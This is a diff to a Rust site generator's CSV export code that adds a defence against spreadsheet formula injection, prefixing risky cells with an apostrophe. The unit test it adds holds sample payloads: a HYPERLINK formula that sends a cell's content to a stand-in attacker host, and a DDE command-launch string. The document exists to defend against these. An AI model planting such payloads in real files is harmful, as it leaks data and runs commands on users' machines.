@@ -12,12 +12,26 @@ use crate::output::OutFile;
 use crate::record::Extra;
 use crate::site::Site;
 
-/// Quotes one CSV field when it holds a comma, quote or line break (RFC 4180).
+/// True for a cell Excel or LibreOffice would run as a formula: one starting with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return (OWASP's list), unless it is a plain number such as
+/// a negative coordinate, which a spreadsheet reads as a number anyway.
+pub fn is_formula_like(value: &str) -> bool {
+    value.starts_with(['=', '+', '-', '@', '\t', '\r']) && value.trim().parse::<f64>().is_err()
+}
+
+/// One CSV field: a formula-like value is prefixed with `'` (a spreadsheet then shows it as
+/// text, the value still readable: `=HYPERLINK(…)` arrives as `'=HYPERLINK(…)`), and a field
+/// with a comma, quote or line break is quoted (RFC 4180).
 pub fn csv_field(value: &str) -> String {
+    let value = if is_formula_like(value) {
+        std::borrow::Cow::Owned(format!("'{value}"))
+    } else {
+        std::borrow::Cow::Borrowed(value)
+    };
     if value.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", value.replace('"', "\"\""))
     } else {
-        value.to_string()
+        value.into_owned()
     }
 }
 
@@ -245,6 +259,23 @@ pub fn exports(site: &Site) -> Vec<OutFile> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formulas_never_run_in_a_spreadsheet() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"https://evil.example/?x=\"&A2,\"詳細はこちら\")"),
+            "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A2,\"\"詳細はこちら\"\")\""
+        );
+        assert_eq!(csv_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+        assert_eq!(csv_field("@SUM(1+1)"), "'@SUM(1+1)");
+        assert_eq!(csv_field("-1+2"), "'-1+2");
+        assert_eq!(csv_field("\t=1"), "'\t=1");
+        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
+        // Numbers and ordinary text are left as they are.
+        assert_eq!(csv_field("-31.5"), "-31.5");
+        assert_eq!(csv_field("099-211-1234"), "099-211-1234");
+        assert_eq!(csv_field("内科=循環器"), "内科=循環器");
+    }
 
     #[test]
     fn rfc_4180_quoting() {
